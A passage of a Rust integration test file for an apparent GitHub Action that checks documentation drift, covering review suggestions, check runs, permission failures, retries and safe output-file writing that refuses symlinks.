    let patch = patch.find("@@ ").map(|at| patch[at..].trim_end().to_owned()).unwrap_or_default();
    forge.state().files.push((name.to_owned(), patch));
}

#[test]
fn a_mechanical_fix_is_suggested_on_its_line_once_and_for_all() {
    let forge = Forge::new();
    let place = Place::new(DRIFTS).on(&forge).pull_request().with("INPUT_COMMENT", "never");
    assert_eq!(place.act().ran.code, 1);
    assert!(forge.state().requests.is_empty(), "nobody asked for suggestions");
    let place = place.with("INPUT_SUGGESTIONS", "true");
    shown(&place, &forge, "README.md");
    let acted = place.act();
    assert_eq!(acted.ran.code, 1, "a suggestion decides nothing");
    acted.has_no_warning();
    assert!(acted.ran.stdout.contains("1 suggestion on pull request 7"), "{}", acted.ran.stdout);
    let reviews = forge.state().reviews.clone();
    assert_eq!((reviews.len(), &reviews[0]["event"]), (1, &json!("COMMENT")));
    assert_eq!(reviews[0]["commit_id"], json!(place.head()));
    let comment = &reviews[0]["comments"][0];
    assert_eq!(
        (&comment["path"], &comment["line"], &comment["side"]),
        (&json!("README.md"), &json!(3), &json!("RIGHT"))
    );
    let body = comment["body"].as_str().expect("a text");
    assert!(body.ends_with("```suggestion\nNeeds Rust 1.85 or newer.\n```\n"), "{body}");
    // Another run, and another push that moves the line: it was offered already.
    assert_eq!(place.act().ran.code, 1);
    place.scratch.write("README.md", DRIFTS.replace("# a\n", "# a\n\nMore.\n"));
    place.scratch.commit("three");
    let mut payload = place.pull("o/r", "main");
    payload["pull_request"]["base"]["sha"] = json!(place.scratch.git(&["rev-parse", "HEAD~2"]).trim());
    let place = place.event("pull_request", &payload);
    let acted = place.act();
    assert!(acted.ran.stdout.contains("not suggested before"), "{}", acted.ran.stdout);
    assert_eq!(forge.state().reviews.len(), 1);
    // Somebody else's review with our marker has offered nothing.
    forge.state().reviews[0]["author"] = json!("stranger");
    forge.state().files.clear();
    shown(&place, &forge, "README.md");
    place.act().has_no_warning();
    assert_eq!(forge.state().reviews.len(), 2);
}

#[test]
fn nothing_is_suggested_on_lines_that_the_pull_request_does_not_show() {
    let forge = Forge::new();
    let place = Place::new(DRIFTS).on(&forge).pull_request().with("INPUT_COMMENT", "never");
    let place = place.with("INPUT_SUGGESTIONS", "true");
    for files in [
        vec![],
        vec![("README.md".to_owned(), "@@ -9 +9 @@\n-x\n+y".to_owned())],
        vec![("README.md".to_owned(), String::new())],
    ] {
        forge.state().files = files;
        place.act().has_no_warning();
    }
    assert_eq!(forge.changes(), 0);
    // The fork's token may not write: a warning, and the same verdict.
    shown(&place, &forge, "README.md");
    forge.fail("POST", "/reviews", Fault::Denied);
    let acted = place.act();
    assert_eq!(acted.ran.code, 1);
    assert!(acted.warning("suggestions-not-made").contains("%0A  pull-requests: write"));
    let dry = place.with("INPUT_DRY_RUN", "true").act();
    assert!(dry.ran.stdout.contains("dry run: 1 suggestion on pull request 7"), "{}", dry.ran.stdout);
    assert!(forge.state().reviews.is_empty());
}

#[test]
fn suggestions_stored_before_a_502_are_not_made_twice() {
    for (fault, posts) in [(Fault::StoredThenBroken, 1), (Fault::Broken, 2)] {
        let forge = Forge::new();
        let place = Place::new(DRIFTS).on(&forge).pull_request().with("INPUT_COMMENT", "never");
        shown(&place, &forge, "README.md");
        forge.fail("POST", "/reviews", fault);
        place.with("INPUT_SUGGESTIONS", "true").act().has_no_warning();
        assert_eq!(forge.state().reviews.len(), 1);
        assert_eq!(forge.asked("POST").len(), posts);
    }
}

#[test]
fn a_check_run_stands_on_the_commit_that_was_judged_and_on_no_other() {
    let forge = Forge::new();
    let place = Place::new(AGREES).on(&forge).with("INPUT_CHECK_RUN", "true");
    let (head, other) = (place.head(), "b".repeat(40));
    let run = json!({ "workflow_run": { "event": "push", "head_sha": other, "head_branch": "x" } });
    let place = place.with("GITHUB_SHA", &head).event("workflow_run", &run);
    assert_eq!(place.act().ran.code, 0);
    let push = json!({ "ref": "refs/heads/main", "before": other, "after": other });
    let place = place.event("push", &push);
    assert_eq!(place.act().ran.code, 3, "what is checked out is not what was pushed");
    // Behind a tag there is an object of its own.
    let place = place.event("push", &json!({ "ref": "refs/tags/v1", "after": other }));
    assert_eq!(place.act().ran.code, 0);
    let checks = forge.state().checks.clone();
    let on: Vec<(&Value, &Value)> = checks.iter().map(|run| (&run["head_sha"], &run["conclusion"])).collect();
    let judged = json!(head);
    assert_eq!(on[0], (&judged, &json!("success")));
    assert_eq!(on[1].1, &json!("action_required"));
    assert_eq!(on[2], (&judged, &json!("success")));
    assert_ne!(checks[0]["external_id"], checks[2]["external_id"], "the legs of a matrix are told apart");
}

#[test]
fn who_tells_what_others_found_judges_nothing() {
    let forge = Forge::new();
    let place = Place::new(AGREES).with("INPUT_REPORT", "report.json").event("push", &json!({}));
    assert_eq!(place.act().outputs["verdict"], "accepted");
    let place = followed(place, &forge, "x");
    let told = place.act();
    assert_eq!((told.ran.code, told.outputs["verdict"].as_str()), (0, "unproven"), "{:#?}", told.ran);
    assert_eq!(told.outputs["findings"], "0");
    for (name, value) in
        [("INPUT_COMMAND", "run"), ("INPUT_PROOF", "p"), ("INPUT_NEEDS", "{\"a\":{\"result\":\"failure\"}}")]
    {
        let place = followed(Place::new(AGREES), &forge, "x").with(name, value);
        let acted = place.act();
        assert_eq!(acted.ran.code, 2, "{name}: {:#?}", acted.ran);
        assert_eq!(acted.outputs["verdict"], "unproven");
    }
}

#[test]
fn a_warning_refuses_a_run_too_where_the_input_says_so() {
    let scratch = governed::place(&governed::step("yes", "echo yes", ""), &[]);
    scratch.write("docs/two.md", "# Two\n\n[gone](gone.md)\n");
    scratch.commit("two");
    let place = Place::of(scratch).pull_request().with("INPUT_COMMAND", "run").with("INPUT_COMMENT", "never");
    let act = |place: &Place| place.acted(governed::command(&place.scratch, &["action"]));
    let acted = act(&place);
    assert_eq!((acted.ran.code, acted.outputs["warn"].as_str()), (0, "1"), "{:#?}", acted.ran);
    let place = place.with("INPUT_FAIL_ON", "warn");
    let acted = act(&place);
    assert_eq!((acted.ran.code, acted.outputs["verdict"].as_str()), (1, "refused"), "{:#?}", acted.ran);
}

#[test]
fn while_nobody_knows_who_we_are_nothing_is_posted() {
    let forge = Forge::new();
    forge.comment("our-app[bot]", &ours("old", 1));
    forge.fail("POST", "/graphql", Fault::Broken);
    let place = Place::new(DRIFTS).on(&forge).pull_request();
    let acted = place.act();
    assert_eq!(acted.ran.code, 1);
    assert!(acted.warning("comment-not-posted").contains("502"), "{:#?}", acted.ran);
    assert_eq!(comments(&forge).len(), 1, "the old one may be ours");
}

#[test]
fn files_are_written_through_no_link_that_the_tree_brings() {
    let outside = tempfile::tempdir().expect("a scratch folder");
    let kept = outside.path().join("kept");
    std::fs::write(&kept, "kept").expect("a scratch folder");
    let place = Place::new(DRIFTS).event("push", &json!({}));
    std::os::unix::fs::symlink(&kept, place.scratch.at("out.sarif")).expect("a link");
    std::os::unix::fs::symlink(outside.path(), place.scratch.at("out")).expect("a link");
    let place = place.with("INPUT_SARIF", "out.sarif");
    assert_eq!(place.act().ran.code, 1);
    assert_eq!(std::fs::read_to_string(&kept).expect("a file"), "kept");
    let written = std::fs::read_to_string(place.scratch.at("out.sarif")).expect("a file");
    assert!(written.contains("\"runs\""), "{written}");
    let acted = place.with("INPUT_SARIF", "out/x.sarif").act();
    assert_eq!(acted.ran.code, 1);
    assert!(acted.warning("file-not-written").contains("is a link"), "{:#?}", acted.ran);
    assert!(!outside.path().join("x.sarif").exists());
}

#[test]
fn a_log_that_can_not_be_written_changes_no_verdict() {
    let place = Place::new(DRIFTS).event("push", &json!({})).with("INPUT_SARIF", "x.sarif");
    let mut command = tool::command(place.scratch.path(), &["action"]);
    let full = std::fs::File::options().write(true).open("/dev/full").expect("the system has it");
    let status = command.envs(&place.variables).stdout(full).stderr(std::process::Stdio::null()).status();
    assert_eq!(status.expect("the binary runs").code(), Some(1));
    let written = std::fs::read_to_string(place.scratch.at("x.sarif")).expect("a file");
    assert!(written.contains("msrv-outdated-in-docs") && !written.contains("stdout-unwritable"), "{written}");
}
